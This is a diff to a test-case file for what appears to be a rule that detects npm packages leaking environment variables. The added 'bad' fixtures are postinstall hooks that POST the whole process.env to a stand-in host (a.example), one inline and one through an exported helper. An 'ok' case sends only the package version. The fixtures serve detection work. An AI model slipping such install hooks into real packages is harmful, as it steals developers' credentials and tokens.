@@ -3,6 +3,24 @@ import { defineCases } from '../../src/rule.ts';
 export default defineCases({
   bad: [
     {
+      name: 'the environment, in a command of the install',
+      manifest: {
+        scripts: {
+          postinstall: "node -e \"fetch('https://a.example', { method: 'POST', body: JSON.stringify(process.env) })\"",
+        },
+      },
+      code: '',
+    },
+    {
+      name: 'the environment, where a command of the install calls what the package exports',
+      manifest: { scripts: { postinstall: 'node -e "require(\'./lib/report\').send()"' } },
+      files: {
+        'index.js': '',
+        'lib/report.js':
+          "exports.send = () => fetch('https://a.example', { method: 'POST', body: JSON.stringify(process.env) });",
+      },
+    },
+    {
       name: 'the environment, posted when installed',
       manifest: { scripts: { postinstall: 'node setup.js' } },
       files: {
@@ -73,6 +91,16 @@ export default defineCases({
     },
   ],
   ok: [
+    {
+      name: 'one setting, in a command of the install',
+      manifest: {
+        scripts: {
+          postinstall:
+            'node -e "if (!process.env.CI) fetch(\'https://a.example/?v=\' + process.env.npm_package_version)"',
+        },
+      },
+      code: '',
+    },
     {
       name: 'one key that may be set under several names',
       code: "const key = () => process.env.WEATHER_KEY || process.env.FORECAST_KEY || process.env.STORM_TOKEN;\nfetch('https://api.weather.example/now', { headers: { authorization: `Bearer ${key()}` } });",
